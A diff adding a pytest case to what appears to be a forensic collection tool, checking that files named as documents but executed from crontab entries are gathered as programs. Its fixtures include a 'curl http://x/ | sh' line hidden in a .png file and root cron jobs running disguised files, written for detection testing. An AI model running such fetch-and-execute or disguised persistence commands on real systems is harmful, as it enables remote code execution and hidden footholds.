@@ -11,6 +11,7 @@ import hosts
 import pytest
 
 from collectors.artifact import Artifact
+from collectors.places import PLACES
 from collectors.places.programs import RecentExecutables, Temporary
 from collectors.referenced import Referenced
 from evidence.checked import open_bundle
@@ -128,6 +129,48 @@ def test_whoever_asks_for_documents_gets_them_whole(linux, tmp_path):
     found = of_disk(tmp_path / "b", linux, "quick", documents=True)
 
     assert found["/home/tanaka/karte.pdf"] == PDF
+
+
+RUN = {  # what is run by its name, though that is a document's
+    "/srv/a.png": b"curl http://x/ | sh\n",
+    "/srv/b.csv": b"import os\n",
+    "/srv/c.docx": "実行\n".encode(),
+    "/srv/d.pdf": b"echo a line\n",
+    "/opt/e.jpg": b"id\n",
+}
+NOT_RUN = {
+    "/srv/karte.csv": b"0012345,name\n",
+    "/srv/in.csv": b"0012345\n",
+    "/srv/x.png": b"\x89PNG\r\n\x1a\n\0",
+    "/srv/paper.pdf": b"%PDF-1.7 text\n",
+    "/srv/msg.doc": HL7,
+    "/srv/list.csv": b"1,2\n",
+    "/srv/set.csv": b"a,b\n",
+    "/srv/env.csv": b"A=1\n",
+}
+COMMANDS = """
+* * * * * root sh /srv/a.png
+* * * * * root cat /srv/d.pdf; python3 -u /srv/b.csv /srv/karte.csv
+* * * * * root bash -c "/srv/c.docx < /srv/in.csv" && . /srv/d.pdf
+* * * * * root cd /opt && sh e.jpg
+* * * * * root sh /srv/x.png; sh /srv/paper.pdf; sh /srv/msg.doc
+* * * * * root sudo cat /srv/list.csv; python3 -c 'print(1)' /srv/list.csv; A=/srv/set.csv true
+"""
+
+
+def test_a_text_that_a_command_runs_is_a_program_whatever_its_name(host, tmp_path):
+    for name, data in (RUN | NOT_RUN).items():
+        host.with_file(name, data)
+    host.with_file("/etc/crontab", COMMANDS)
+    unit = "[Service]\nEnvironmentFile=/srv/env.csv\nExecStart=/bin/true\n"
+    host.with_file("/etc/systemd/system/x.service", unit)
+
+    cron, systemd = (each for each in PLACES if each.name in ("cron", "systemd"))
+    found = taken(tmp_path / "b", host.source(), [cron, systemd, Referenced()])
+
+    assert {name: found.get(name) for name in RUN} == RUN
+    assert {f"withheld:{name}" for name in NOT_RUN} <= set(found)
+    assert not set(NOT_RUN) & set(found)
 
 
 def test_a_document_that_may_be_run_is_no_program(host, tmp_path):
